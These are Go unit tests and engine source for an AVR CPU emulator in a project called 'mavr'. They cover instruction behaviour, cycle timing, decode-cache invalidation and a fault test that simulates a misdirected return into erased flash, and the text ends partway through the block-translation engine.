	if got := c.SP(); got != 0x1234 {
		t.Errorf("SP = 0x%04X, want 0x1234 (out to 0x3d/0x3e must move SP)", got)
	}
}

func TestLdsStsRoundTrip(t *testing.T) {
	c := run(t, `
		ldi r16, 0x77
		sts 0x0800, r16
		lds r17, 0x0800
		sleep
	`, 10)
	if got := c.Reg(17); got != 0x77 {
		t.Errorf("lds r17 = 0x%02X, want 0x77", got)
	}
	if got := c.Data[0x0800]; got != 0x77 {
		t.Errorf("data[0x0800] = 0x%02X, want 0x77", got)
	}
}

func TestIndirectLoadStoreWithDisplacement(t *testing.T) {
	c := run(t, `
		ldi r28, 0x00  ; Y = 0x0800
		ldi r29, 0x08
		ldi r16, 0x11
		mov r5, r16
		std Y+1, r5
		ldd r6, Y+1
		sleep
	`, 10)
	if got := c.Reg(6); got != 0x11 {
		t.Errorf("ldd r6 = 0x%02X, want 0x11", got)
	}
	if got := c.Data[0x0801]; got != 0x11 {
		t.Errorf("data[0x0801] = 0x%02X, want 0x11", got)
	}
}

func TestPostIncrementPreDecrement(t *testing.T) {
	c := run(t, `
		ldi r26, 0x00  ; X = 0x0800
		ldi r27, 0x08
		ldi r16, 0xAA
		st X+, r16
		ldi r16, 0xBB
		st X+, r16
		ld r17, -X     ; back to 0x0801 -> 0xBB
		ld r18, -X     ; back to 0x0800 -> 0xAA
		sleep
	`, 20)
	if got := c.Reg(17); got != 0xBB {
		t.Errorf("r17 = 0x%02X, want 0xBB", got)
	}
	if got := c.Reg(18); got != 0xAA {
		t.Errorf("r18 = 0x%02X, want 0xAA", got)
	}
	if got := c.RegPair(avr.RegXL); got != 0x0800 {
		t.Errorf("X = 0x%04X, want 0x0800", got)
	}
}

func TestLpmReadsFlash(t *testing.T) {
	c := run(t, `
		ldi r30, 0x10  ; Z = byte address 0x10
		ldi r31, 0x00
		lpm r16, Z+
		lpm r17, Z
		sleep
	.org 0x8
	data:
		.db 0xDE, 0xAD
	`, 10)
	if got := c.Reg(16); got != 0xDE {
		t.Errorf("lpm r16 = 0x%02X, want 0xDE", got)
	}
	if got := c.Reg(17); got != 0xAD {
		t.Errorf("lpm r17 = 0x%02X, want 0xAD", got)
	}
}

func TestBranchTakenAndNotTaken(t *testing.T) {
	c := run(t, `
		ldi r16, 5
		cpi r16, 5
		breq eq
		ldi r17, 1   ; skipped
	eq:
		ldi r18, 2
		cpi r16, 6
		breq neq
		ldi r19, 3
	neq:
		sleep
	`, 20)
	if got := c.Reg(17); got != 0 {
		t.Error("breq not taken although Z set")
	}
	if got := c.Reg(18); got != 2 {
		t.Errorf("r18 = %d, want 2", got)
	}
	if got := c.Reg(19); got != 3 {
		t.Error("breq taken although Z clear")
	}
}

func TestSkipInstructionsSkipTwoWordInstr(t *testing.T) {
	c := run(t, `
		ldi r16, 0x01
		sbrs r16, 0
		sts 0x0800, r16  ; two-word instruction must be skipped entirely
		ldi r17, 9
		sleep
	`, 10)
	if got := c.Data[0x0800]; got != 0 {
		t.Error("sbrs failed to skip the two-word sts")
	}
	if got := c.Reg(17); got != 9 {
		t.Errorf("r17 = %d, want 9 (execution resumed after skip)", got)
	}
}

func TestCpseSkips(t *testing.T) {
	c := run(t, `
		ldi r16, 3
		ldi r17, 3
		cpse r16, r17
		ldi r18, 1   ; skipped
		ldi r19, 2
		sleep
	`, 10)
	if c.Reg(18) != 0 {
		t.Error("cpse did not skip")
	}
	if c.Reg(19) != 2 {
		t.Error("execution did not resume after cpse skip")
	}
}

func TestAdiwSbiw(t *testing.T) {
	c := run(t, `
		ldi r24, 0xFF
		ldi r25, 0x00
		adiw r24, 0x01
		sleep
	`, 10)
	if got := c.RegPair(24); got != 0x0100 {
		t.Errorf("adiw result = 0x%04X, want 0x0100", got)
	}
}

func TestInOut(t *testing.T) {
	c := run(t, `
		ldi r16, 0x3C
		out 0x15, r16
		in r17, 0x15
		sleep
	`, 10)
	if got := c.Reg(17); got != 0x3C {
		t.Errorf("in r17 = 0x%02X, want 0x3C", got)
	}
}

func TestIOHooks(t *testing.T) {
	img, err := asm.Assemble(`
		ldi r16, 0x42
		out 0x2A, r16
		in r17, 0x29
		sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	var written byte
	c.HookWrite(avr.IOBase+0x2A, func(v byte) { written = v })
	c.HookRead(avr.IOBase+0x29, func(byte) byte { return 0x99 })
	for i := 0; i < 10 && c.Step() == nil; i++ {
	}
	if written != 0x42 {
		t.Errorf("write hook saw 0x%02X, want 0x42", written)
	}
	if got := c.Reg(17); got != 0x99 {
		t.Errorf("read hook returned 0x%02X to r17, want 0x99", got)
	}
}

func TestInvalidOpcodeFaults(t *testing.T) {
	c := avr.New()
	if err := c.LoadFlash([]byte{0xFF, 0xFF}); err != nil {
		t.Fatal(err)
	}
	err := c.Step()
	f, ok := err.(*avr.Fault)
	if !ok || f.Kind != avr.FaultInvalidOpcode {
		t.Fatalf("want invalid-opcode fault, got %v", err)
	}
	// The fault is sticky.
	if err := c.Step(); err == nil {
		t.Error("halted CPU stepped again")
	}
}

func TestRunIntoErasedFlashFaults(t *testing.T) {
	// A misdirected return lands in erased flash (0xFFFF), which decodes
	// as an invalid instruction — the paper's "executing garbage" signal.
	img, err := asm.Assemble(`
		ldi r16, 1
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	_, fault := c.Run(100)
	if fault == nil || fault.Kind != avr.FaultInvalidOpcode {
		t.Fatalf("want invalid opcode after running off the program, got %v", fault)
	}
}

func TestRetToGarbageAddressFaults(t *testing.T) {
	// Simulate a ROP chain against the wrong layout: push a return
	// address pointing into erased flash and ret.
	c := run(t, `
		ldi r16, 0x01  ; ext byte
		ldi r17, 0xF0  ; hi
		ldi r18, 0x00  ; lo
		push r18
		push r17
		push r16
		ret
	`, 20)
	f := c.Fault()
	if f == nil {
		t.Fatal("no fault after ret to erased flash")
	}
	if f.Kind != avr.FaultInvalidOpcode && f.Kind != avr.FaultPCOutOfRange {
		t.Fatalf("unexpected fault kind %v", f.Kind)
	}
}

func TestShiftAndRotate(t *testing.T) {
	c := run(t, `
		ldi r16, 0x81
		lsr r16        ; 0x40, C=1
		ror r16        ; 0xA0 (C rotated in), C=0
		sleep
	`, 10)
	if got := c.Reg(16); got != 0xA0 {
		t.Errorf("r16 = 0x%02X, want 0xA0", got)
	}
	if c.Flag(avr.FlagC) {
		t.Error("carry should be clear after ror of even value")
	}
}

func TestMul(t *testing.T) {
	c := run(t, `
		ldi r16, 200
		ldi r17, 3
		mul r16, r17
		sleep
	`, 10)
	if got := c.RegPair(0); got != 600 {
		t.Errorf("mul result = %d, want 600", got)
	}
}

func TestMovw(t *testing.T) {
	c := run(t, `
		ldi r30, 0xCD
		ldi r31, 0xAB
		movw r24, r30
		sleep
	`, 10)
	if got := c.RegPair(24); got != 0xABCD {
		t.Errorf("movw pair = 0x%04X, want 0xABCD", got)
	}
}

func TestSweepCycleCounting(t *testing.T) {
	c := run(t, `
		nop
		nop
		sleep
	`, 10)
	// 2 nops (1 cycle each) + sleep (1) + 1 sleeping tick at most.
	if c.Cycles < 3 {
		t.Errorf("cycles = %d, want >= 3", c.Cycles)
	}
}

func TestMemoryMapMatchesPaperFig1(t *testing.T) {
	m := avr.MemoryMap()
	var flash, sram, eeprom bool
	for _, r := range m {
		switch {
		case r.Space == "program" && r.Size == 256*1024:
			flash = true
		case r.Space == "data" && r.Size == 8*1024:
			sram = true
		case r.Space == "eeprom" && r.Size == 4*1024:
			eeprom = true
		}
	}
	if !flash || !sram || !eeprom {
		t.Errorf("memory map missing regions: flash=%v sram=%v eeprom=%v", flash, sram, eeprom)
	}
	if s := avr.FormatMemoryMap(); len(s) == 0 {
		t.Error("empty memory map rendering")
	}
}

func TestResetClearsState(t *testing.T) {
	c := run(t, `
		ldi r16, 1
		push r16
		sleep
	`, 10)
	c.Reset()
	if c.PC != 0 || c.Cycles != 0 || c.Reg(16) != 0 {
		t.Error("reset did not clear state")
	}
	if got := c.SP(); got != avr.DataSpaceSize-1 {
		t.Errorf("SP after reset = 0x%04X", got)
	}
}
