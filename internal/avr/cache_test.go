package avr_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

// Self-programming must evict stale decode-cache lines: the program
// below executes a subroutine (caching its decodes), rewrites the
// subroutine's flash page through the real SPM erase/fill/write
// sequence, and calls it again. The second call must execute the new
// instructions, not the stale predecodes — this is exactly what MAVR's
// bootloader reprogramming does to the application under it.
func TestSPMRewriteInvalidatesDecodeCache(t *testing.T) {
	// New page content: "ldi r20, 2 ; ret" = words 0xE042, 0x9508.
	img, err := asm.Assemble(`
		call sub        ; cache the old subroutine decodes

		; fill buffer word 0 with "ldi r20, 2" (bytes 42 E0)
		ldi r16, 0x42
		mov r0, r16
		ldi r16, 0xE0
		mov r1, r16
		ldi r30, 0x00   ; Z = byte 0x0200 (word 0x100)
		ldi r31, 0x02
		ldi r17, 0x01   ; SPMEN: buffer fill
		sts 0x57, r17
		spm

		; fill buffer word 1 with "ret" (bytes 08 95)
		ldi r16, 0x08
		mov r0, r16
		ldi r16, 0x95
		mov r1, r16
		ldi r30, 0x02
		sts 0x57, r17
		spm

		; erase the page, then commit the buffer
		ldi r30, 0x00
		ldi r17, 0x03   ; SPMEN|PGERS
		sts 0x57, r17
		spm
		ldi r17, 0x05   ; SPMEN|PGWRT
		sts 0x57, r17
		spm

		call sub        ; must run the rewritten code
		sleep

	.org 0x100
	sub:
		ldi r20, 1
		ret
	`)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	if _, fault := c.Run(10_000); fault != nil {
		t.Fatalf("fault: %v", fault)
	}
	if !c.Sleeping {
		t.Fatal("program did not finish")
	}
	if c.Flash[0x200] != 0x42 || c.Flash[0x201] != 0xE0 {
		t.Fatalf("SPM write did not land: % X", c.Flash[0x200:0x204])
	}
	if got := c.Reg(20); got != 2 {
		t.Errorf("r20 = %d after SPM rewrite, want 2 (stale decode cache?)", got)
	}
}

// LoadFlash replaces the whole image and must drop every cached decode.
func TestLoadFlashInvalidatesDecodeCache(t *testing.T) {
	imgA, err := asm.Assemble(`
		ldi r20, 1
		sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	imgB, err := asm.Assemble(`
		ldi r20, 2
		sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(imgA); err != nil {
		t.Fatal(err)
	}
	if _, fault := c.Run(100); fault != nil {
		t.Fatal(fault)
	}
	if c.Reg(20) != 1 {
		t.Fatalf("image A: r20 = %d", c.Reg(20))
	}
	if err := c.LoadFlash(imgB); err != nil {
		t.Fatal(err)
	}
	c.Reset()
	if _, fault := c.Run(100); fault != nil {
		t.Fatal(fault)
	}
	if got := c.Reg(20); got != 2 {
		t.Errorf("image B: r20 = %d, want 2 (stale decode cache?)", got)
	}
}

// InvalidateFlash must extend one word before the modified range:
// patching only the second word of a two-word instruction has to evict
// the cached decode of its first word.
func TestInvalidateFlashCoversTwoWordStraddle(t *testing.T) {
	img, err := asm.Assemble(`
		lds r20, 0x0400
		sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	c.Data[0x0400] = 0xAA
	c.Data[0x0401] = 0xBB
	if _, fault := c.Run(100); fault != nil {
		t.Fatal(fault)
	}
	if c.Reg(20) != 0xAA {
		t.Fatalf("first run: r20 = 0x%02X", c.Reg(20))
	}
	// Patch the lds target (the instruction's second word, flash bytes
	// 2..3) to 0x0401, invalidating only the modified bytes.
	c.Flash[2] = 0x01
	c.Flash[3] = 0x04
	c.InvalidateFlash(2, 2)
	c.Reset()
	c.Data[0x0401] = 0xBB
	if _, fault := c.Run(100); fault != nil {
		t.Fatal(fault)
	}
	if got := c.Reg(20); got != 0xBB {
		t.Errorf("after patch: r20 = 0x%02X, want 0xBB (straddling word not evicted?)", got)
	}
}

// Run on a sleeping core fast-forwards the remaining cycle budget
// instead of returning after a single one-cycle sleep step, so
// board-level timing derived from Run's cycle accounting stays
// meaningful across sleep windows.
func TestRunSleepConsumesBudget(t *testing.T) {
	img, err := asm.Assemble(`
		nop
		sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	used, fault := c.Run(1000)
	if fault != nil {
		t.Fatal(fault)
	}
	if used != 1000 {
		t.Errorf("Run consumed %d cycles, want the full 1000 budget", used)
	}
	if c.Cycles != 1000 {
		t.Errorf("Cycles = %d, want 1000", c.Cycles)
	}
	// A second Run keeps fast-forwarding while asleep.
	used, fault = c.Run(500)
	if fault != nil {
		t.Fatal(fault)
	}
	if used != 500 || c.Cycles != 1500 {
		t.Errorf("second Run: used %d, Cycles %d; want 500, 1500", used, c.Cycles)
	}
	// An interrupt still wakes it mid-budget.
	c.RaiseInterrupt(avr.VectorTimer0Ovf)
	if !c.PendingInterrupts() {
		t.Fatal("interrupt not pending")
	}
	c.Run(100)
	if c.Sleeping {
		t.Error("pending interrupt did not wake the sleeping core")
	}
}
