package avr_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

// Every conditional branch condition, taken and not taken, for each of
// the eight SREG flags.
func TestBranchConditionsAllFlags(t *testing.T) {
	for flag := 0; flag < 8; flag++ {
		for _, set := range []bool{false, true} {
			// brbs flag, +1 : skips the marker ldi when flag is set.
			b := asm.NewBuilder()
			b.Emit(asm.BRBS(flag, 1))
			b.Emit(asm.LDI(20, 0xAA)) // executed only if NOT taken
			b.Emit(asm.LDI(21, 0xBB))
			b.Emit(asm.SLEEP)
			img, err := b.Assemble()
			if err != nil {
				t.Fatal(err)
			}
			c := avr.New()
			if err := c.LoadFlash(img); err != nil {
				t.Fatal(err)
			}
			c.SetFlag(flag, set)
			for i := 0; i < 10 && c.Step() == nil; i++ {
			}
			taken := c.Reg(20) == 0
			if taken != set {
				t.Errorf("brbs flag %d with flag=%v: taken=%v", flag, set, taken)
			}
			if c.Reg(21) != 0xBB {
				t.Errorf("brbs flag %d: fallthrough lost", flag)
			}

			// brbc: the complement.
			b2 := asm.NewBuilder()
			b2.Emit(asm.BRBC(flag, 1))
			b2.Emit(asm.LDI(20, 0xAA))
			b2.Emit(asm.SLEEP)
			img2, err := b2.Assemble()
			if err != nil {
				t.Fatal(err)
			}
			c2 := avr.New()
			if err := c2.LoadFlash(img2); err != nil {
				t.Fatal(err)
			}
			c2.SetFlag(flag, set)
			for i := 0; i < 10 && c2.Step() == nil; i++ {
			}
			if taken := c2.Reg(20) == 0; taken != !set {
				t.Errorf("brbc flag %d with flag=%v: taken=%v", flag, set, taken)
			}
		}
	}
}

func TestBackwardBranch(t *testing.T) {
	c := run(t, `
		ldi r16, 5
	loop:
		dec r16
		brne loop
		ldi r17, 1
		sleep
	`, 40)
	if c.Reg(16) != 0 || c.Reg(17) != 1 {
		t.Errorf("countdown loop broken: r16=%d r17=%d", c.Reg(16), c.Reg(17))
	}
}

func TestBLDBSTBitTransfer(t *testing.T) {
	c := run(t, `
		ldi r16, 0x04  ; bit 2 set
		bst r16, 2     ; T = 1
		ldi r17, 0x00
		bld r17, 7     ; r17 bit7 = T
		bst r16, 0     ; T = 0
		bld r17, 6
		sleep
	`, 10)
	if got := c.Reg(17); got != 0x80 {
		t.Errorf("r17 = 0x%02X, want 0x80", got)
	}
}

func TestSBICSBISOnIOPorts(t *testing.T) {
	c := run(t, `
		sbi 0x05, 3    ; PORTB bit 3
		sbis 0x05, 3
		ldi r20, 0xAA  ; skipped (sbis skips when bit set)
		sbic 0x05, 3
		ldi r21, 0xBB  ; executed (sbic skips only when bit clear)
		cbi 0x05, 3
		sbic 0x05, 3
		ldi r22, 0xCC  ; skipped (bit now clear)
		sleep
	`, 20)
	if c.Reg(20) != 0 {
		t.Error("sbis did not skip on set bit")
	}
	if c.Reg(21) != 0xBB {
		t.Error("sbic skipped although bit set")
	}
	if c.Reg(22) != 0 {
		t.Error("sbic did not skip after cbi")
	}
}

// EICALL/EIJMP use EIND:Z; ELPM crosses the 64KB boundary via RAMPZ.
func TestExtendedIndirectAndELPM(t *testing.T) {
	b := asm.NewBuilder()
	// Place a data byte above 128KB and read it via ELPM.
	b.Emit(asm.LDI(24, 0x02)) // RAMPZ = 2 -> byte addr 0x20000+
	b.Emit(asm.OUT(avr.IOAddrRAMPZ, 24))
	b.Emit(asm.LDI(30, 0x10), asm.LDI(31, 0x00)) // Z = 0x0010
	b.Emit(asm.ELPMZ(16))                        // reads flash[0x20010]
	// EICALL a function above 64K words: EIND=1, Z = target & 0xFFFF.
	b.Emit(asm.LDI(24, 1))
	b.Emit(asm.OUT(avr.IOAddrEIND, 24))
	b.Emit(asm.LDI(30, 0x08), asm.LDI(31, 0x00)) // word 0x10008
	b.Emit(asm.EICALL)
	b.Emit(asm.SLEEP)
	img, err := b.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	full := make([]byte, 0x21000)
	for i := range full {
		full[i] = 0xFF
	}
	copy(full, img)
	full[0x20010] = 0x5E
	// Far function at word 0x10008 (byte 0x20010+... word 0x10008 = byte 0x20010).
	far := asm.LDI(17, 0x42)
	full[0x20010] = byte(far)
	full[0x20011] = byte(far >> 8)
	ret := asm.RET
	full[0x20012] = byte(ret)
	full[0x20013] = byte(ret >> 8)

	c := avr.New()
	if err := c.LoadFlash(full); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 30 && c.Step() == nil; i++ {
	}
	if c.Fault() != nil {
		t.Fatalf("fault: %v", c.Fault())
	}
	if got := c.Reg(16); got != byte(far) {
		t.Errorf("elpm read 0x%02X, want 0x%02X (flash above 128KB)", got, byte(far))
	}
	if got := c.Reg(17); got != 0x42 {
		t.Errorf("eicall target did not run (r17=0x%02X)", got)
	}
}

func TestIJMPUsesZOnly(t *testing.T) {
	b := asm.NewBuilder()
	b.Emit(asm.LDI(30, 4), asm.LDI(31, 0)) // Z = word 4
	b.Emit(asm.IJMP)
	b.Emit(asm.LDI(20, 0xAA)) // word 3: must be skipped
	b.Label("target")         // word 4
	b.Emit(asm.LDI(21, 0xBB))
	b.Emit(asm.SLEEP)
	img, err := b.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 10 && c.Step() == nil; i++ {
	}
	if c.Reg(20) != 0 || c.Reg(21) != 0xBB {
		t.Errorf("ijmp broken: r20=%02X r21=%02X", c.Reg(20), c.Reg(21))
	}
}

func TestOnStepHookObservesExecution(t *testing.T) {
	img, err := asm.Assemble(`
		ldi r16, 1
		inc r16
		sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	var ops []avr.Op
	c.OnStep = func(pc uint32, in avr.Instr) { ops = append(ops, in.Op) }
	for i := 0; i < 5 && c.Step() == nil; i++ {
	}
	want := []avr.Op{avr.OpLDI, avr.OpINC, avr.OpSLEEP}
	if len(ops) < 3 {
		t.Fatalf("hook saw %d instructions", len(ops))
	}
	for i, w := range want {
		if ops[i] != w {
			t.Errorf("step %d: %v, want %v", i, ops[i], w)
		}
	}
}

func TestRunUntilAndCycleBudget(t *testing.T) {
	img, err := asm.Assemble(`
	loop:
		inc r16
		rjmp loop
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	ok, fault := c.RunUntil(1000, func(c *avr.CPU) bool { return c.Reg(16) >= 10 })
	if !ok || fault != nil {
		t.Fatalf("RunUntil failed: ok=%v fault=%v", ok, fault)
	}
	used, fault := c.Run(100)
	if fault != nil || used < 100 {
		t.Errorf("Run consumed %d cycles, fault=%v", used, fault)
	}
}
