package avr_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

func lds16() []uint16 { w := asm.LDS(16, 0x200); return w[:] }
func jmp2() []uint16  { w := asm.JMP(2); return w[:] }

// cyclesOf measures the cycle cost of executing the given words once.
func cyclesOf(t *testing.T, words []uint16, steps int) uint64 {
	t.Helper()
	c := avr.New()
	img := make([]byte, len(words)*2+4)
	for i, w := range words {
		img[i*2] = byte(w)
		img[i*2+1] = byte(w >> 8)
	}
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < steps; i++ {
		if err := c.Step(); err != nil {
			t.Fatalf("step %d: %v", i, err)
		}
	}
	return c.Cycles
}

// Datasheet cycle counts for the instructions whose timing the board
// model depends on (3-byte-PC device values).
func TestCycleCounts(t *testing.T) {
	tests := []struct {
		name  string
		words []uint16
		steps int
		want  uint64
	}{
		{"alu_1cycle", []uint16{asm.ADD(16, 17)}, 1, 1},
		{"ldi_1cycle", []uint16{asm.LDI(16, 1)}, 1, 1},
		{"lds_2cycles", lds16(), 1, 2},
		{"push_2cycles", []uint16{asm.PUSH(16)}, 1, 2},
		{"pop_2cycles", []uint16{asm.POP(16)}, 1, 2},
		{"jmp_3cycles", jmp2(), 1, 3},
		{"rjmp_2cycles", []uint16{asm.RJMP(0)}, 1, 2},
		{"lpm_3cycles", []uint16{asm.LPMZ(16)}, 1, 3},
		{"in_1cycle", []uint16{asm.IN(16, 0x05)}, 1, 1},
		{"mul_2cycles", []uint16{asm.MUL(16, 17)}, 1, 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := cyclesOf(t, tt.words, tt.steps); got != tt.want {
				t.Errorf("cycles = %d, want %d", got, tt.want)
			}
		})
	}
}

func TestCallRetCycleCost(t *testing.T) {
	// call (5) + ret (5) on a 3-byte-PC device.
	b := asm.NewBuilder()
	b.CALL("fn")
	b.Emit(asm.SLEEP)
	b.Label("fn")
	b.Emit(asm.RET)
	img, err := b.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	if err := c.Step(); err != nil { // call
		t.Fatal(err)
	}
	if c.Cycles != 5 {
		t.Errorf("call = %d cycles, want 5", c.Cycles)
	}
	if err := c.Step(); err != nil { // ret
		t.Fatal(err)
	}
	if c.Cycles != 10 {
		t.Errorf("call+ret = %d cycles, want 10", c.Cycles)
	}
}

func TestBranchTakenCostsExtraCycle(t *testing.T) {
	// Taken branch: 2 cycles; not taken: 1.
	taken := cyclesOf(t, []uint16{asm.BRBC(avr.FlagZ, 0)}, 1) // Z clear -> taken
	if taken != 2 {
		t.Errorf("taken branch = %d cycles, want 2", taken)
	}
	notTaken := cyclesOf(t, []uint16{asm.BRBS(avr.FlagZ, 0)}, 1) // Z clear -> not taken
	if notTaken != 1 {
		t.Errorf("untaken branch = %d cycles, want 1", notTaken)
	}
}

func TestSkipCostsFollowInstructionSize(t *testing.T) {
	// Skipping a one-word instruction costs 2 cycles total; skipping a
	// two-word instruction costs 3.
	oneWord := cyclesOf(t, []uint16{asm.SBRS(1, 0) /* r1=0: no skip */}, 1)
	if oneWord != 1 {
		t.Errorf("sbrs no-skip = %d, want 1", oneWord)
	}
	c := avr.New()
	b := asm.NewBuilder()
	b.Emit(asm.SBRC(1, 0)) // r1 bit0 clear -> skip next
	b.Emit2(asm.STS(0x300, 16))
	b.Emit(asm.SLEEP)
	img, err := b.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	if err := c.Step(); err != nil {
		t.Fatal(err)
	}
	if c.Cycles != 3 {
		t.Errorf("sbrc skipping 2-word sts = %d cycles, want 3", c.Cycles)
	}
	if c.PC != 3 {
		t.Errorf("PC = %d after skip, want 3", c.PC)
	}
}

// The interrupt entry cost (push 3-byte PC + vector) is 5 cycles.
func TestInterruptEntryCycles(t *testing.T) {
	c := avr.New()
	img, err := asm.Assemble(`
		jmp start
	.org 0x2E
		jmp start
	.org 0x40
	start:
		sei
		nop
		nop
		nop
	`)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	// jmp(3) + sei(1) + nop(1; sei delay slot)
	for i := 0; i < 3; i++ {
		if err := c.Step(); err != nil {
			t.Fatal(err)
		}
	}
	before := c.Cycles
	c.RaiseInterrupt(avr.VectorTimer0Ovf)
	if err := c.Step(); err != nil { // interrupt dispatch
		t.Fatal(err)
	}
	if got := c.Cycles - before; got != 5 {
		t.Errorf("interrupt entry = %d cycles, want 5", got)
	}
	if c.PC != avr.VectorTimer0Ovf*2 {
		t.Errorf("PC = 0x%X, want vector slot", c.PC)
	}
}
