package avr

// Block-translated threaded-code execution engine.
//
// The predecode cache (cache.go) removed decoding from the hot loop;
// what remains is dispatch itself: per instruction, Run re-tests the
// fault/interrupt/sleep state, re-checks the cycle budget, fetches
// through the cache and branches through exec's big switch. This layer
// removes that constant factor for straight-line code: instructions
// are grouped into basic blocks (ending at any control transfer, skip,
// SPM, SLEEP, BREAK, invalid opcode, flash boundary, or a length cap),
// each block is translated once into a chain of specialized Go
// closures (translate.go), and Run executes whole blocks at a time.
//
// Semantics are bit-identical to the interpreter — the golden-trace
// conformance suite and FuzzBlockExec hold the engine to that:
//
//   - Cycle accounting is batched: the block's straight-line cycle sum
//     is added once at entry, and a block is only entered when its
//     worst-case cost fits the remaining Run budget, so the engine
//     stops at exactly the same instruction boundary as the
//     interpreter. Any early exit (fault, interrupt arrival) rolls
//     Cycles back to the precomputed per-instruction value.
//   - Interrupts: a block is only entered with no interrupt pending.
//     Pending state can change mid-block solely through I/O write
//     hooks, so translation marks every instruction that follows a
//     hook-capable one with the interpreter's pre-instruction check
//     (fault / SEI-delay / pending). When the check fires, the block
//     bails to the interpreter at that exact PC.
//   - Invalidation mirrors the decode cache: LoadFlash, SPM page
//     erase/write and InvalidateFlash all bump per-flash-page
//     generation counters; a cached block re-validates its (at most
//     two) covering pages on entry and is retranslated when stale.
//
// The engine turns itself off — falling back to the plain interpreter
// loop — whenever OnStep is set (tracing observes every instruction),
// when ForceInterpreter is set (MAVR_AVR_INTERP=1), while an interrupt
// is pending but unserviceable, and for blocks that have not yet run
// hotThreshold times.

import "os"

const (
	// hotThreshold is how many times a PC must be entered before it is
	// translated; colder entries run interpreted.
	hotThreshold = 4
	// maxBlockInstrs caps block length so a block spans at most two
	// SPM pages (48 instructions ≤ 192 flash bytes < SPMPageSize) and
	// the entry cycle gate stays tight.
	maxBlockInstrs = 48
	// heatPoison marks an entry PC whose instruction has no translation;
	// Run interprets it forever instead of re-attempting.
	heatPoison = 0xFF
	// flashPages is the number of SPM-page-sized generation buckets.
	flashPages = FlashSize / SPMPageSize
)

// forceInterpEnv is the CI/tooling escape hatch: MAVR_AVR_INTERP=1
// forces every CPU created afterwards to use the plain interpreter.
var forceInterpEnv = os.Getenv("MAVR_AVR_INTERP") == "1"

// BlockStats counts block-engine activity for perf tooling
// (mavr-bench -perf prints them next to the benchmark lines).
type BlockStats struct {
	Translated  uint64 // blocks translated (including retranslations)
	Invalidated uint64 // stale cached blocks dropped on entry
	Execs       uint64 // block executions
	Bails       uint64 // mid-block fallbacks to the interpreter
	InterpSteps uint64 // instructions Run executed via the interpreter
}

// TranslationStats returns the CPU's block-engine counters.
func (c *CPU) TranslationStats() BlockStats { return c.blkStats }

// blockStep is one translated instruction.
type blockStep struct {
	fn func(*CPU)
	// pc is the instruction's word address: where the interpreter
	// resumes if the pre-step check bails out of the block.
	pc uint32
	// fixup is the block's straight-line cycle sum minus the cycles of
	// all steps before this one. Subtracting it from Cycles on a bail
	// rewinds the batched entry accounting to this exact boundary.
	fixup uint64
	// check replicates the interpreter's pre-instruction tests. It is
	// set only on steps following a hook-capable (impure) instruction —
	// the only place fault/pending/SEI-delay state can change inside a
	// block.
	check bool
}

// block is a translated basic block, cached per entry PC.
type block struct {
	// fns is the fast path for pure blocks (no step needs checks).
	fns []func(*CPU)
	// steps is the checked path (nil when fns is used).
	steps []blockStep
	// body is the straight-line cycle sum batched at entry (the
	// terminator accounts for its own, possibly variable, cycles).
	body uint64
	// cycles is the worst-case whole-block cost; Run only enters the
	// block when this fits the remaining budget.
	cycles uint64
	// pages/gens are the covering flash pages and the generation they
	// had at translation time.
	pages  [2]uint32
	gens   [2]uint32
	npages int
}

// blocksEnabled reports whether Run may use translated blocks.
func (c *CPU) blocksEnabled() bool {
	return c.OnStep == nil && !c.ForceInterpreter
}

// blockFor returns the valid translation entered at pc, translating it
// if the entry is hot, or nil while it is cold.
func (c *CPU) blockFor(pc uint32) *block {
	if c.blocks == nil {
		c.blocks = make([]*block, FlashWords)
		c.blockHeat = make([]uint8, FlashWords)
		if c.pageGen == nil {
			c.pageGen = make([]uint32, flashPages)
		}
	}
	if b := c.blocks[pc]; b != nil {
		for i := 0; i < b.npages; i++ {
			if c.pageGen[b.pages[i]] != b.gens[i] {
				c.blkStats.Invalidated++
				return c.retranslate(pc)
			}
		}
		return b
	}
	switch h := c.blockHeat[pc]; {
	case h == heatPoison:
		return nil
	case h < hotThreshold:
		c.blockHeat[pc] = h + 1
		return nil
	}
	return c.retranslate(pc)
}

func (c *CPU) retranslate(pc uint32) *block {
	b := c.translate(pc)
	c.blocks[pc] = b
	if b == nil {
		c.blockHeat[pc] = heatPoison
	}
	return b
}

// bumpPageGens invalidates every cached block overlapping the modified
// byte range [start, start+n). Like the decode cache, the range is
// extended one word backwards: the word before may be the first word
// of a two-word instruction whose operand just changed.
func (c *CPU) bumpPageGens(start, n uint32) {
